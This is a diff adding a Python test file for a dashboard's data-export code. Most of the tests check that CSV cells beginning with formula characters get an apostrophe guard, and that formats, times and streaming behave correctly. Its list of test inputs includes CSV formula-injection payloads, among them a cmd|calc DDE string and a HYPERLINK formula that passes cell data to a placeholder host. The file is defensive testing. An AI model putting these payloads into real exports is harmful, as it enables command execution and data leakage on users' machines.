@@ -1,0 +1,176 @@
+"""Exports: inert in a spreadsheet, exact for a program, visible when broken."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import tracemalloc
+from collections.abc import Iterator, Sequence
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from sqlalchemy import Connection
+from tests.dashboard.generated import NOW
+
+from toolfault_dashboard import queries
+from toolfault_dashboard.exports import table_stream, write
+from toolfault_dashboard.queries import RowStream, Scope
+from toolfault_dashboard.queries.rows import FrequencyRow
+
+SIGNS = "=+-@"
+STARTS = [
+    *(lead + sign + "1+1" for sign in SIGNS for lead in
+      ("", " ", "  ", "\t", "\r", "\n", "\r\n", "\x00", "\ufeff", "\u200b", "\u00a0", "\u2028",
+       '"', "'", '""', "\u202e")),
+    "＝1+1", "＋1", "－1", "＠SUM(A1)", " ＝1", "-", "=", "\t", "\r", "\n", "\x00",
+    "|calc", "%0A=1", "-1+1", "+1 555 0100", "--1", "@SUM(1+1)*cmd|' /C calc'!A0",
+    '"=HYPERLINK(""http://x"")', '=HYPERLINK("http://x?"&A1)', "-2+3+cmd|' /C calc'!A0",
+]  # fmt: skip
+
+
+def _stream(columns: Sequence[str], rows: Sequence[Sequence[Any]]) -> RowStream:
+    return RowStream(tuple(columns), frozenset(), iter(rows))
+
+
+def _csv(stream: RowStream, **how: bool) -> str:
+    return b"".join(write(stream, "csv", **how)).decode()
+
+
+def _read(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def _is_formula(cell: str) -> bool:
+    """What the most forgiving spreadsheet would run."""
+    if cell[:1] in ("\t", "\r", "\n", "\x00"):
+        return True
+    seen = cell.lstrip(" \t\r\n\x00\ufeff\u200b\u00a0\u2028\u202e\"'" if cell[:1] != "'" else "")
+    return seen[:1] in tuple("=+-@＝＋－＠")
+
+
+@pytest.mark.parametrize("text", STARTS)
+@pytest.mark.parametrize("place", [0, 1, 2])
+def test_no_cell_begins_a_formula(text: str, place: int) -> None:
+    """In no column, and in no header, does a cell begin with what a spreadsheet would run."""
+    row: list[Any] = ["a", "b", "c"]
+    row[place] = text
+    header = list("xyz")
+    header[place] = text
+    parsed = _read(_csv(_stream(header, [row])))
+    for cells in parsed:
+        assert not _is_formula(cells[place]), cells[place]
+        assert cells[place] == "'" + text
+
+
+@pytest.mark.parametrize("number", ["-5.2", "+3", "-1e-9", "0", "-17"])
+def test_numbers_survive(number: str) -> None:
+    """A negative number is data, as a number and as text."""
+    parsed = _read(_csv(_stream(["n", "t"], [[float(number), number]])))
+    assert parsed[1] == [repr(float(number)), number]
+
+
+@given(st.lists(st.lists(st.text(st.characters(codec="utf-8")), min_size=2, max_size=2)))
+@settings(max_examples=300, deadline=None)
+def test_any_text_comes_back(rows: list[list[str]]) -> None:
+    """A CSV is read back as what was written; only the guard's apostrophe is added."""
+    text = _csv(_stream(["a", "b"], rows))
+    parsed = _read(text)[1:]
+    assert [[c.removeprefix("'") for c in row] for row in parsed] == [
+        [c.removeprefix("'") for c in row] for row in rows
+    ]
+    raw = _read(_csv(_stream(["a", "b"], rows), raw=True))[1:]
+    assert raw == rows
+    assert not any(_is_formula(cell) for row in parsed for cell in row
+                   if not cell.lstrip("+-").replace(".", "", 1).isdigit())  # fmt: skip
+
+
+def test_lines_end_as_the_standard_says() -> None:
+    """RFC 4180: CRLF after every record, one header, quotes only where needed."""
+    assert _csv(_stream(["a", "b"], [["x", None], ["y,z", 'say "hi"']])) == (
+        'a,b\r\nx,\r\n"y,z","say ""hi"""\r\n'
+    )
+
+
+def test_excel_gets_its_mark() -> None:
+    """Excel begins with a byte order mark; nothing else does."""
+    stream = _stream(["a"], [["ü"]])
+    assert b"".join(write(stream, "csv", excel=True)).startswith(b"\xef\xbb\xbfa\r\n")
+    assert not b"".join(write(_stream(["a"], []), "csv")).startswith(b"\xef\xbb\xbf")
+
+
+def test_values_keep_their_kind() -> None:
+    """JSON keeps numbers, booleans, null and lists; CSV writes booleans as true and false."""
+    row = [1, 2.5, True, None, ["a"], {"k": "ü"}]
+    columns = list("abcdef")
+    assert json.loads(b"".join(write(_stream(columns, [row]), "json"))) == [
+        dict(zip(columns, row, strict=True))
+    ]
+    assert _read(_csv(_stream(columns, [row])))[1] == [
+        "1", "2.5", "true", "", '["a"]', '{"k":"ü"}',
+    ]  # fmt: skip
+
+
+def test_times_are_utc_text_and_empty_where_there_are_none(conn: Connection, scope: Scope) -> None:
+    """Every export writes RFC 3339 times, and nothing for a source without times."""
+    for format_ in ("csv", "ndjson", "json"):
+        data = b"".join(write(queries.iter_failures(conn, scope), format_)).decode()
+        if format_ == "csv":
+            rows = list(csv.DictReader(io.StringIO(data, newline="")))
+        elif format_ == "json":
+            rows = json.loads(data)
+        else:
+            rows = [json.loads(line) for line in data.splitlines()]
+        assert len(rows) == queries.summary(conn, scope).failures
+        for row in rows:
+            if row["time_source"] == "none":
+                assert not row["occurred_at"]
+            else:
+                assert row["occurred_at"].endswith("Z")
+                assert row["occurred_at"] < "2026-11-20T12:00:00.1Z"
+    assert NOW
+
+
+def _breaking(rows: int) -> Iterator[Sequence[Any]]:
+    for number in range(rows):
+        yield [number]
+    raise OSError("the database went away")
+
+
+@pytest.mark.parametrize("format_", ["csv", "ndjson", "json"])
+def test_a_broken_stream_says_so(format_: Any) -> None:
+    """The last line of an export that broke off says that it did, and no JSON reader accepts it."""
+    stream = RowStream(("a",), frozenset(), _breaking(3))
+    got: list[bytes] = []
+    with pytest.raises(OSError, match="went away"):
+        got.extend(write(stream, format_))
+    text = b"".join(got).decode()
+    assert "broke off after 3 rows" in text.splitlines()[-1]
+    if format_ == "json":
+        with pytest.raises(json.JSONDecodeError):
+            json.loads(text)
+
+
+def test_memory_stays_flat() -> None:
+    """An export of 200,000 rows needs no more memory than its chunks."""
+    rows = ([f"row {number}", "x" * 100] for number in range(200_000))
+    stream = RowStream(("a", "b"), frozenset(), rows)
+    tracemalloc.start()
+    size = sum(len(chunk) for chunk in write(stream, "csv"))
+    _, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert size > 20_000_000
+    assert peak < 4_000_000
+
+
+def test_a_table_exports_what_it_shows(conn: Connection, scope: Scope) -> None:
+    """A table of rates exports value, interval and n of each row."""
+    table = queries.frequency(conn, scope, "code")
+    text = b"".join(write(table_stream(table.rows, FrequencyRow), "csv")).decode()
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert [(r["name"], int(r["failures"]), int(r["rate_n"])) for r in rows] == [
+        (row.name, row.failures, row.rate.n) for row in table.rows
+    ]
+    assert rows[0]["first_at"].endswith("Z")
